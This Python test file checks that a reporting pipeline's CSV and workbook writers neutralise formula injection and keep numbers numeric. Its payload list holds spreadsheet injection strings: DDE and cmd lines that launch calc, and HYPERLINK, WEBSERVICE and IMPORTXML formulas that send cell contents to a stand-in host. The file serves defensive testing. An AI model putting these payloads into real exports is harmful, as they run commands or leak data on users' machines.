"""What a spreadsheet would run: every shape of payload, in the CSV and in the workbook; numbers stay numbers."""

import csv
import datetime as dt
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
import python_calamine

from pipelines.io.report_files import Column, Sheet, write_csv, write_workbook
from pipelines.report.read import printable
from pipelines.report.tabulate import neutral

DAY = dt.date(2026, 11, 21)
#: A name as a hostile export could hold it, and what the CSV shows.
PAYLOADS = [
    ("=1+1", "'=1+1"),
    ("=cmd|'/C calc'!A0", "'=cmd|'/C calc'!A0"),
    ('=HYPERLINK("http://x.example?"&A1,"click")', "'=HYPERLINK(\"http://x.example?\"&A1,\"click\")"),
    ('=WEBSERVICE("http://x.example/"&A1)', "'=WEBSERVICE(\"http://x.example/\"&A1)"),
    ("=IMPORTXML(CONCAT(\"http://x.example\",A1),\"//a\")", "'=IMPORTXML(CONCAT(\"http://x.example\",A1),\"//a\")"),
    ("=DDE(\"cmd\";\"/C calc\";\"x\")", "'=DDE(\"cmd\";\"/C calc\";\"x\")"),
    ("+1+1", "'+1+1"),
    ("+33 1 42 00 00 00", "'+33 1 42 00 00 00"),
    ("-1+1", "'-1+1"),
    ("-2+3+cmd|'/C calc'!D2", "'-2+3+cmd|'/C calc'!D2"),
    ("@SUM(1+1)*cmd|'/C calc'!A0", "'@SUM(1+1)*cmd|'/C calc'!A0"),
    ("\t=1+1", "'=1+1"),  # a control is taken out first, and what it hid is seen
    ("\r=1+1", "'=1+1"),
    ("\n=1+1", "'=1+1"),
    ("\x00=1+1", "'=1+1"),
    ("\u200b=1+1", "'=1+1"),
    ("\ufeff=1+1", "'=1+1"),
    ("\u202e=1+1", "'=1+1"),
    ("\t", ""),
    ("=", "'="),
    ("-", "'-"),
    ('";=1+1;"', '";=1+1;"'),  # quotes and separators cannot open a cell of their own
    ("a\r\n=1+1", "a=1+1"),
    ("a;=1+1", "a;=1+1"),
    ("'=1+1", "'=1+1"),
    ("1=1", "1=1"),
    ("Centre A - B", "Centre A - B"),
    ("é=1", "é=1"),
    (" =1+1", " =1+1"),
]  # fmt: skip
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n")


def read_cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file, delimiter=";"))


@pytest.mark.parametrize(("name", "shown"), PAYLOADS)
def test_a_name_in_the_csv_runs_nothing_and_stays_in_its_cell(tmp_path: Path, name: str, shown: str):
    frame = pd.DataFrame({"before": ["x"], "name": [neutral(printable(name))], "after": [-1.5]})
    write_csv(tmp_path / "a.csv", frame)
    assert read_cells(tmp_path / "a.csv") == [["before", "name", "after"], ["x", shown, "-1,5"]]
    assert not shown.startswith(DANGEROUS)


@pytest.mark.parametrize("name", [name for name, _ in PAYLOADS if printable(name)])
def test_a_name_in_the_workbook_is_the_name_itself_and_a_text(tmp_path: Path, name: str):
    path, text = tmp_path / "a.xlsx", printable(name)
    write_workbook(path, [Sheet("s", (Column("h", "text", 9),), [[text]])], title="t", created=DAY)
    cell = openpyxl.load_workbook(path)["s"]["A2"]
    assert (cell.value, cell.data_type, cell.hyperlink) == (text, "s", None)
    book = python_calamine.load_workbook(str(path))  # a second reader
    assert book.get_sheet_by_name("s").to_python()[1] == [text]


@pytest.mark.parametrize(
    ("value", "kind", "text", "number"),
    [
        (0, "count", "0", 0),
        (12345, "count", "12345", 12345),
        (-3, "plain", "-3", -3),
        (-1.5, "plain", "-1,5", -1.5),
        (62.5, "percent", "62,5", 0.625),
        (100.0, "percent", "100,0", 1),
        (0.0, "percent", "0,0", 0),
        (1e-9, "plain", "1e-09", 1e-9),
    ],
)
def test_a_number_stays_a_number(tmp_path: Path, value: float, kind: str, text: str, number: float):
    write_csv(tmp_path / "a.csv", pd.DataFrame({"h": [value]}))
    write_workbook(
        tmp_path / "a.xlsx", [Sheet("s", (Column("h", kind, 9),), [[value]])], title="t", created=DAY
    )
    assert read_cells(tmp_path / "a.csv")[1] == [text]
    cell = openpyxl.load_workbook(tmp_path / "a.xlsx")["s"]["A2"]
    assert (cell.value, cell.data_type) == (number, "n")


@pytest.mark.parametrize("header", ["=1+1", "+h", "@h", "http://x.example"])
def test_a_header_is_a_text_too(tmp_path: Path, header: str):
    write_workbook(
        tmp_path / "a.xlsx", [Sheet("s", (Column(header, "text", 9),), [["a"]])], title="t", created=DAY
    )
    cell = openpyxl.load_workbook(tmp_path / "a.xlsx")["s"]["A1"]
    assert (cell.value, cell.data_type) == (header, "s")


@pytest.mark.parametrize("first", DANGEROUS)
@pytest.mark.parametrize("rest", ["", "1", "SUM(A1)", " text", "=", "é"])
def test_neutral_text_never_begins_a_formula_and_loses_nothing(first: str, rest: str):
    found = neutral(first + rest)
    assert not found.startswith(DANGEROUS)
    assert found.removeprefix("'") == first + rest
    assert neutral(found) == found  # once is enough
